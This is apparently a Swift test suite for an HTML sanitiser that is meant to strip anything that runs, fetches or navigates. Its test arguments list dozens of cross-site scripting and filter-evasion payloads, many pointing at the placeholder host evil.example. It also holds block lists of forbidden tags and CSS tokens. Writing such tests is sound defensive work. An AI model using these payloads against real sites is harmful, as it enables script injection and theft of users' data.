import Foundation
import Testing

@testable import HTML

/// Hostile pages, read again as a browser would read them: nothing that runs, fetches, sends, navigates or frames may be left.
@Suite struct InertPageTests {
    /// What a browser is given for a page.
    private static func inert(_ html: String, isStyled: Bool = true) -> String {
        String(
            decoding: InertPage(Document.parse(utf8: Array(html.utf8), limits: InertPage.limits), isStyled: isStyled).html, as: UTF8.self)
    }

    private static let attributes: Set<String> = [
        "data-n", "data-link", "id", "style", "type", "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "checked", "class",
        "color", "colspan", "dir", "disabled", "face", "height", "hidden", "label", "lang", "max", "min", "nowrap", "open", "placeholder",
        "readonly", "reversed", "rowspan", "scope", "selected", "size", "span", "start", "title", "valign", "value", "width", "charset",
    ]
    private static let forbidden: Set<String> = [
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "link", "base", "form", "svg", "math", "audio", "video",
        "source",
        "template", "noscript", "textarea", "xmp", "plaintext", "noembed", "noframes", "canvas", "portal", "dialog",
    ]

    /// What is wrong with a page that was written, in words; empty where nothing is.
    private static func troubles(_ html: String) -> [String] {
        var found: [String] = []
        // Browsers that run scripts and those that do not read `noscript` differently: neither may find anything.
        for isScripting in [false, true] {
            let document = Document.parse(utf8: Array(html.utf8), isScripting: isScripting)
            var next = document.firstElement(in: document.root)
            while let element = next {
                next = document.elementAfter(element, within: document.root)
                let name = document.nameText(of: element)
                if document.namespace(of: element) != .html || forbidden.contains(name) { found.append("<\(name)>") }
                if name == "meta", document.attributes(of: element).map(\.name) != ["charset"] { found.append("meta") }
                for attribute in document.attributes(of: element) {
                    if !attributes.contains(attribute.name) { found.append("\(name) \(attribute.name)") }
                    if attribute.name == "style" { found += styleTroubles(attribute.value) }
                }
                if name == "style" { found += styleTroubles(document.textContent(of: element)) }
            }
        }
        return found
    }

    private static func styleTroubles(_ css: String) -> [String] {
        let text = css.lowercased()
        return ["url(", "@import", "@font-face", "image-set(", "expression(", "src(", "<"].filter { text.contains($0) }
    }

    @Test(arguments: [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)><p>x", "<a href='javascript:alert(1)'>x</a>", "<a href=//evil.example target=_top ping=//evil.example>x</a>",
        "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=//evil.example></frameset>",
        "<object data=//evil.example></object><embed src=//evil.example><applet code=x></applet>",
        "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=image href=//evil.example>",
        "<form action=//evil.example method=post><input name=q autofocus onfocus=alert(1)><button formaction=//evil.example>x</button></form>",
        "<video src=//evil.example autoplay poster=//evil.example><source src=//evil.example></video><audio src=//evil.example></audio>",
        "<img srcset='//evil.example 1x' src='//evil.example' lowsrc=//evil.example dynsrc=x><picture><source srcset=//evil.example></picture>",
        "<table background=//evil.example><tr><td background=//evil.example>x</table>", "<input type=image src=//evil.example>",
        "<div style='background:url(//evil.example)'>x</div>", "<div style='background:u\\72l(//evil.example)'>x</div>",
        "<div style='background:ur/**/l(//evil.example);width:expression(alert(1))'>x</div>",
        "<style>@import '//evil.example';p{color:red}</style>", "<style>@\\69mport url(//evil.example);</style>",
        "<style>a{background:ur@x;l(//evil.example)}</style>", "<style>a{background:image-set('//evil.example' 1x)}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example)} a{content:'</st\\79le><script>alert(1)</script>'}</style>",
        "<style>a{}</sty/**/le><script>alert(1)</script>", "<style>/*</style><script>alert(1)</script>*/</style>",
        "<style>a{background:URL ( //evil.example ) url( \"//evil.example\" )}</style>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<xmp><script>alert(1)</script></xmp>",
        "<textarea></textarea><script>alert(1)</script></textarea>",
        "<textarea><p title='</textarea><script>alert(1)</script>'></textarea>",
        "<!--><script>alert(1)</script>-->", "<select><style></select><script>alert(1)</script></style></select>",
        "<template><script>alert(1)</script></template>", "<p title='\"><script>alert(1)</script>'>x</p>",
        "<plaintext><script>alert(1)</script>",
        "<x-evil onclick=alert(1) is=x-y slot=z>x</x-evil><a><table><a>x</a></table></a>",
        "<svg><style><!--</style><img src=x onerror=alert(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<dialog open popover>x</dialog>",
    ])
    func `nothing of a hostile page acts`(html: String) {
        for page in [
            html, "<!doctype html><html><head>\(html)</head><body>\(html)</body></html>", "<ul><li>a<br>\(html)<b>c</b></li></ul>",
        ] {
            let troubles = Self.troubles(Self.inert(page))
            #expect(troubles.isEmpty, "\(troubles) in \(Self.inert(page))")
        }
    }

    @Test(arguments: 0..<40) func `garbage comes out harmless, and every number names its node`(seed: UInt64) {
        let pieces = [
            "<script>", "</script>", "<style>", "</style>", "<svg>", "<math>", "<mtext>", "<table>", "<tr>", "<td>", "</table>", "<p>",
            "<a href=x>",
            "</a>", "<select>", "<option>", "<template>", "</template>", "<noscript>", "<textarea>", "</textarea>", "<title>", "<b>", "<i>",
            "</b>",
            "<form action=x>", "<img src=x onerror=y id=body name=body>", "<!--", "-->", "<![CDATA[", "]]>", "\"", "'", ">", "<", "/",
            "&lt;", "\u{0}",
            "@import '", "url(", "\\75rl(", "{", "}", ";", "/*", "*/", "<div style=\"", "<frameset>", "<body onload=x>", "<pre>\n\n",
            "text", " ",
            "<plaintext>", "é",
        ]
        var state = seed &* 0x9E37_79B9_7F4A_7C15 &+ 1
        var html = ""
        for _ in 0..<400 {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            html += pieces[Int(state >> 33) % pieces.count]
        }
        let source = Document.parse(utf8: Array(html.utf8), limits: InertPage.limits)
        let written = String(decoding: InertPage(source).html, as: UTF8.self)
        #expect(Self.troubles(written).isEmpty, "seed \(seed)")
        let again = Document(written)
        var next = again.firstElement(in: again.root)
        while let element = next {
            next = again.elementAfter(element, within: again.root)
            guard let number = again.attribute(named: "data-n", of: element) else { continue }
            #expect(Int(number).flatMap { source.node(numbered: $0) } != nil, "seed \(seed), \(number)")
        }
    }

    @Test func `what is seen of a page stays, and texts among elements can be pointed at`() throws {
        let html = """
            <html><head><style media=print>p{display:none}</style><style>.md\\:flex > p:first-child{color:red;background:url(x.png)}</style></head>
            <body class=c><ul><li id=one class="member odd"><a href="/a">Ada</a><br>12 Oak St &amp; Co<br>Phone: 555</li></ul><pre>

            x</pre><img src=a.png alt="A face" id=x name=y><x-card class=k>inside</x-card></body></html>
            """
        let source = Document.parse(utf8: Array(html.utf8), limits: InertPage.limits)
        let written = String(decoding: InertPage(source).html, as: UTF8.self)
        let again = Document(written)
        #expect(written.contains(#".md\3a flex > p:first-child{color:red;background: none }"#) && !written.contains("display:none"))
        let item = try #require(again.selectFirst(try Selector("li#one.member.odd")))
        #expect(again.textContent(of: item) == "Ada12 Oak St & CoPhone: 555")
        let spans = again.select(try Selector("span[data-n]"), in: item)
        #expect(spans.map { again.textContent(of: $0) } == ["12 Oak St & Co", "Phone: 555"])
        for span in spans {
            let number = try #require(again.attribute(named: "data-n", of: span).flatMap { Int($0) })
            let node = try #require(source.node(numbered: number))
            #expect(source.isText(node) && source.textContent(of: node) == again.textContent(of: span))
        }
        #expect(again.select(try Selector("img")).map { again.attributes(of: $0).map(\.name) } == [["data-n", "alt"]])
        #expect(again.textContent(of: try #require(again.selectFirst(try Selector("pre")))) == "\nx")
        #expect(again.select(try Selector("span.k, a[data-link]")).count == 2)
        #expect(!Self.inert(html, isStyled: false).contains("first-child"))
        #expect(source.node(numbered: -1) == nil && source.node(numbered: source.nodeCount) == nil)
    }

    @Test func `a page without end is cut, and stays whole`() {
        let endless = String(repeating: "<div title=\"\(String(repeating: "&", count: 90))\"><p>x", count: 900)
        let source = Document.parse(utf8: Array(endless.utf8), limits: InertPage.limits)
        let written = String(decoding: InertPage(source, mostBytes: 4_000).html, as: UTF8.self)
        #expect(written.utf8.count < 6_000 && written.hasSuffix("</body></html>"))
        #expect(written.components(separatedBy: "<div").count == written.components(separatedBy: "</div>").count)
        #expect(Self.inert("").contains("<body") && Self.inert("<frameset>").contains("<body"))
    }
}
